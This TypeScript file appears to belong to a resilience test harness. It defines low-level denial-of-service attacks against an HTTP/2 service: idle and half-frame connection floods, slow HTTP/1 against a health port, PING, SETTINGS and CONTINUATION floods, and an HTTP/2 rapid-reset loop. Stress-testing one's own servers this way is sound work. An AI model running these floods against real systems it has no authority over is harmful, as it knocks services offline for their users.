// Attacks below the protocol of calls: connections, and frames of HTTP/2 that mean little and are many.
import { constants } from 'node:http2';
import type { Socket } from 'node:net';
import { type Attack, HELLO, holdOn, http2Frame, open, send, type Target, tcp } from './target.ts';

const PING = 6;
const SETTINGS = 4;
const HEADERS = 1;
const CONTINUATION = 9;

/** As many connections as are kept, each with these first bytes. */
function connections(count: number, address: (target: Target) => string, bytes: Uint8Array): Attack {
  return async (target) => {
    const sockets: Socket[] = [];
    while (!target.isOver() && sockets.length < count) {
      const socket = tcp(address(target));
      socket.write(bytes);
      sockets.push(socket);
      await new Promise(setImmediate);
    }
    await holdOn(target);
    for (const socket of sockets) {
      socket.destroy();
    }
  };
}

/** The same bytes as fast as the peer takes them, over connections that are opened again when they are closed. */
function bytes(first: Uint8Array, again: Uint8Array): Attack {
  return async (target) => {
    const one = async (): Promise<void> => {
      while (!target.isOver()) {
        const socket = tcp(target.address);
        socket.write(first);
        while (!target.isOver() && !socket.destroyed) {
          if (!socket.write(again)) {
            await Promise.race([
              new Promise((resolve) => socket.once('drain', resolve).once('close', resolve)),
              holdOn(target),
            ]);
          }
          await new Promise(setImmediate);
        }
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: 4 }, one));
  };
}

const many = (frame: Uint8Array): Uint8Array => Buffer.concat(Array.from({ length: 1_000 }, () => frame));

export const BYTE_ATTACKS: Readonly<Record<string, Attack>> = {
  'silent connections': connections(1_500, ({ address }) => address, Buffer.alloc(0)),
  'connections with half a frame': connections(
    1_500,
    ({ address }) => address,
    Buffer.concat([HELLO, http2Frame(HEADERS, 4, 1, Buffer.alloc(100)).subarray(0, 20)]),
  ),
  'slow HTTP/1 at the health port': connections(
    1_000,
    ({ adminAddress }) => adminAddress,
    Buffer.from('GET /livez HTTP/1.1\r\nhost: x\r\nx-slow: '),
  ),
  PING: bytes(HELLO, many(http2Frame(PING, 0, 0, Buffer.alloc(8)))),
  SETTINGS: bytes(HELLO, many(http2Frame(SETTINGS, 0, 0))),
  CONTINUATION: bytes(
    Buffer.concat([HELLO, http2Frame(HEADERS, 0, 1, Buffer.from([0x82]))]),
    many(http2Frame(CONTINUATION, 0, 1, Buffer.alloc(1_000, 0x82))),
  ),
  'rapid reset': async (target) => {
    while (!target.isOver()) {
      const session = open(target);
      for (let n = 0; n < 500 && !session.destroyed && !target.isOver(); n += 1) {
        send(session, 'TransactionService/Begin', undefined, { isOpen: true }).stream.close(constants.NGHTTP2_CANCEL);
        if (n % 50 === 0) {
          await new Promise(setImmediate);
        }
      }
      session.destroy();
      await new Promise(setImmediate);
    }
  },
};
